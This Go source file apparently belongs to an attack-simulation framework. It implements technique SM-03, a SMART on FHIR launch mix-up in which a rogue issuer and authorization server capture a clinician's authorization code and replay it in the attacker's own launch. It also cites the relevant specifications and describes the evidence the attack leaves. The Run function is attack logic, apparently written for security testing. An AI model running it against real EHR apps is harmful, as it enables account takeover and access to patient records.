package attacker

import (
	"context"
	"fmt"
	"net/url"

	"thiefbox/sim/event"
)

var _ = register("SM-03", Technique{
	Title: "A launch from an EHR that is none",
	Story: "An app learns from the link that opens it at which API it is, and asks that API where people sign in. The thief sends a clinician such a link, which names an " +
		"API of his. That names an authorization server of his, which names the honest one's sign-in page and his own token endpoint. She signs in at the page she knows, and the " +
		"app takes her code to him. He puts it into a launch of his own.",
	Reads:    []string{"SMART App Launch 2.2, EHR launch, iss", "RFC 9700 s4.4", "FAPI 2.0 SP 5.3.3.2-5"},
	Evidence: "At the app, a launch with an iss it was never set up for; at the server, an authorization request that names an API of somebody else's.",
	Needs:    []event.Vantage{event.RogueAS}, Scene: Scene{AppThere: true},
	Run: func(ctx context.Context, g Ground) error {
		honest, err := discover(ctx, g, g.Target().Issuer)
		if err != nil {
			return err
		}
		honest = honest.PreferAliases() // where the app shows its certificate, if it has one
		ro := newRogue(g)
		ro.meta.AuthorizationEndpoint, ro.meta.PushedAuthorizationRequestEndpoint = honest.AuthorizationEndpoint, honest.PushedAuthorizationRequestEndpoint
		ro.open()
		base := "https://" + g.Target().OwnHost + "/fhir"
		if honest.RequireSignedRequest { // there the API goes by resource, and the server takes none that it does not know
			base = g.Target().OwnAPI
		}
		f := newFacade(g, base, ro.meta.Issuer)
		if err := g.Lure(g.Target().AppLaunch + url.QueryEscape(f.base)); err != nil {
			return err
		}
		code := ro.lastToken().Get("code")
		if code == "" {
			return ErrStopped
		}
		own, err := beginOwnChart(ctx, g)
		if err != nil {
			return err
		}
		_, err = g.Browser().Visit(ctx, withCode(own, code), "")
		return err
	},
})

// beginOwnChart has the thief open the honest app by itself, up to its callback.
func beginOwnChart(ctx context.Context, g Ground) (*url.URL, error) {
	t := g.Target()
	page, err := g.Browser().Visit(ctx, t.AppLaunch+url.QueryEscape(t.FHIRBase), t.AppCallback)
	if err != nil {
		return nil, err
	}
	if !page.Stopped {
		return nil, fmt.Errorf("expected the thief's own launch to come to %s, got to %s", t.AppCallback, page.URL)
	}
	return url.Parse(page.URL)
}
